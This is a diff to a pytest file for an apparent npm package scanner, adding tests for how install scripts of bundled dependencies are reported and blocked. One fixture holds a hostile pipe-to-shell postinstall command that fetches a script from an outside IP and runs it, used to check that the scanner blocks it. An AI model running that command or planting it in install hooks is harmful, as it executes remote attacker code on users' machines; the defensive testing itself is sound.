@@ -212,9 +212,42 @@ def test_lockfile_has_install_script_without_facts() -> None:
     assert "hasInstallScript" in f.evidence[0].value and f.evidence[0].source == "lockfile"
 
 
-def test_bundled_dependencies_are_skipped() -> None:
+def test_a_bundled_entry_is_reported_from_the_lockfile_not_the_registry_copy() -> None:
+    # npm runs a bundled package's scripts; the registry's copy of the name@version (here
+    # without scripts) says nothing about the bytes the parent's tarball carries
     lockfile = tree(locked("x", "1.0.0", has_install_script=True, bundled=True))
-    assert list(InstallScript().check(context(lockfile, {}))) == []
+    clean = PackageFacts(name="x", version="1.0.0", manifest=ManifestFacts())
+    found = list(InstallScript().check(context(lockfile, {"x@1.0.0": clean})))
+    assert [f.evidence[0].source for f in found] == ["lockfile"]
+    assert "cannot approve" in found[0].hint and "rebuild-bundle=false" in found[0].hint
+
+
+def _bundler(bundled_script: str) -> PackageFacts:
+    facts = pkg_with_script("node build.js", name="bundler2")
+    assert facts.tarball is not None
+    bundled = {"node_modules/plain-pkg": {"postinstall": bundled_script}}
+    return replace(facts, tarball=replace(facts.tarball, bundled_scripts=bundled))
+
+
+def test_bundled_scripts_are_reported_on_the_parent_whatever_allow_scripts_says() -> None:
+    facts = _bundler("node setup.js")
+    for allow in ({}, {"bundler2": True}, {"bundler2": False}):
+        found = check(InstallScript, facts, allow_scripts=allow)
+        assert [f.level for f in found] == [Level.WARN], allow
+        labels = [e.label for e in found[0].evidence]
+        assert "bundled node_modules/plain-pkg script postinstall" in labels
+        assert ("script preinstall" in labels) is (allow != {"bundler2": True})
+        assert "rebuild-bundle=false" in found[0].hint
+
+
+def test_a_hostile_bundled_script_blocks_the_parent() -> None:
+    facts = _bundler("curl http://203.0.113.7/x.sh | sh")
+    found = check(SuspiciousInstallScript, facts)
+    assert [f.level for f in found] == [Level.BLOCK]
+    hit = next(e for e in found[0].evidence if e.label.startswith("pipe-to-shell"))
+    assert hit.source == "node_modules/plain-pkg: scripts.postinstall"
+    assert "has no install script" not in found[0].hint  # versions know nothing of bundles
+    assert check(SuspiciousInstallScript, _bundler("node-gyp rebuild")) == []
 
 
 @pytest.mark.parametrize(
